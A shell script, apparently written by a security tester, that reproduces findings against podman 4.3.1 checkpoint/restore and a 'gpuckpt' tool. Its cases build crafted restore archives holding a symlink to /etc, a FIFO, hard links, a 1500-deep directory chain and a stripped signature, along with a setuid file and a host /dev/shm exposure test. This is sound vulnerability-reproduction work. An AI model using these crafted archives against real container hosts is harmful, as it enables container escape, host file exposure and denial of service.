#!/bin/sh
# attack30m: the podman 4.3.1 reproductions of findings.md (as root; names prefixed attack30m; cleans up after itself).
# Usage: repro.sh setuid | deep | planted | sigadd | unsigned | ipchost
set -u
D=/var/tmp/attack30m; mkdir -p $D; chmod 700 $D; cd $D
IMG=localhost/gpuckpt-test:latest
LOOP='i=0; while true; do i=$((i+1)); echo $i > /tmp/count; sleep 1; done'
ud() { echo /var/lib/containers/storage/overlay-containers/$(podman inspect -f '{{.Id}}' $1)/userdata; }
case $1 in
setuid)  # F1: a setuid file in the container's own /dev/shm; leave-running checkpoint; in-place restore refused
  podman run -d --name attack30m-suid $IMG sh -c "echo hi > /dev/shm/s; chmod 4755 /dev/shm/s; $LOOP"; sleep 2
  podman container checkpoint --leave-running attack30m-suid; podman stop -t 0 attack30m-suid
  podman container restore attack30m-suid; echo "rc=$? (F1: 125 expected)"
  podman rm -f -t 0 attack30m-suid ;;
deep)  # F2: signed leave-running export, devshm-checkpoint.tar (outside the dump signature) a 1500-deep chain
  podman run -d --name attack30m-d $IMG sh -c "echo a > /dev/shm/plain; $LOOP"; sleep 2
  podman container checkpoint --leave-running -e $D/d.tar.zst attack30m-d; podman rm -f -t 0 attack30m-d
  rm -rf y; mkdir y; tar -C y -xf d.tar.zst
  /usr/bin/python3 -c '
import tarfile
with tarfile.open("y/devshm-checkpoint.tar", "w") as t:
    name = "."
    for i in range(1500):
        name += "/d"; ti = tarfile.TarInfo(name); ti.type = tarfile.DIRTYPE; ti.mode = 0o755; t.addfile(ti)'
  tar -C y -cf deep.tar . && podman container restore --import deep.tar; echo "rc=$? (F2: RecursionError expected)"
  podman rm -f -t 0 attack30m-d ;;
planted)  # control of F2: a shallow edit of devshm-checkpoint.tar is replaced by the signed copy
  podman run -d --name attack30m-d $IMG sh -c "echo a > /dev/shm/plain; $LOOP"; sleep 2
  podman container checkpoint --leave-running -e $D/d.tar.zst attack30m-d; podman rm -f -t 0 attack30m-d
  rm -rf y p; mkdir y p; tar -C y -xf d.tar.zst; echo planted > p/planted; tar -C p -cf y/devshm-checkpoint.tar .
  tar -C y -cf planted.tar . && podman container restore --import planted.tar
  podman exec attack30m-d ls -la /dev/shm; podman rm -f -t 0 attack30m-d ;;
sigadd)  # a gpuckpt-devshm.tar added to a signed (stop-mode) checkpoint: refused, not among the signed files
  podman run -d --name attack30m-sig $IMG sh -c "echo a > /dev/shm/plain; $LOOP"; sleep 2
  podman container checkpoint attack30m-sig
  rm -rf t; mkdir t; ln -s /etc t/evil; mkfifo t/fifo; tar -C t -cf $(ud attack30m-sig)/checkpoint/gpuckpt-devshm.tar evil fifo
  podman container restore attack30m-sig; echo "rc=$? (125 expected)"; podman rm -f -t 0 attack30m-sig ;;
unsigned)  # restore:any in a trust dir of our own: a crafted gpuckpt-devshm.tar (symlink, FIFO, hard link) applied
  sed "s#/var/tmp/attack30l#$D#g" /work/main/results/lint/attack30l/containers.conf > containers.conf
  sed "s#/var/tmp/attack30l#$D#g" /work/main/results/lint/attack30l/rt.sh > rt.sh; chmod +x rt.sh
  printf 'delegate = "runc"\n' > config.toml; GPUCKPT_TRUST_DIR=$D/trust gpuckpt trust allow-unsigned restore:any
  podman run -d --name attack30m-u $IMG sh -c "echo a > /dev/shm/plain; $LOOP"; sleep 2
  podman container checkpoint -e $D/u.tar.zst attack30m-u; podman rm -f -t 0 attack30m-u
  rm -rf x t; mkdir x t; tar -C x -xf u.tar.zst; ln -s /etc t/evil; mkfifo t/fifo; echo s > t/sem.x; ln t/sem.x t/sem.link
  tar -C t -cf x/checkpoint/gpuckpt-devshm.tar evil fifo sem.x sem.link; rm x/checkpoint/gpuckpt-dump.sig
  tar -C x -cf crafted.tar . && CONTAINERS_CONF=$D/containers.conf podman container restore --import crafted.tar
  podman exec attack30m-u ls -la /dev/shm; podman exec attack30m-u grep shm /proc/mounts; podman rm -f -t 0 attack30m-u ;;
ipchost)  # --ipc=host: both podman's and gpuckpt's copies hold the host's /dev/shm (never restore this in place)
  (umask 077; echo HOSTSECRET > /dev/shm/attack30m-hostsecret; chown nobody /dev/shm/attack30m-hostsecret)
  podman run -d --name attack30m-ipch --ipc=host $IMG sh -c "$LOOP"; sleep 2
  podman container checkpoint --leave-running attack30m-ipch
  tar tvf $(ud attack30m-ipch)/checkpoint/gpuckpt-devshm.tar; tar tvf $(ud attack30m-ipch)/devshm-checkpoint.tar
  podman rm -f -t 0 attack30m-ipch; rm -f /dev/shm/attack30m-hostsecret ;;
esac
cd /; rm -rf $D
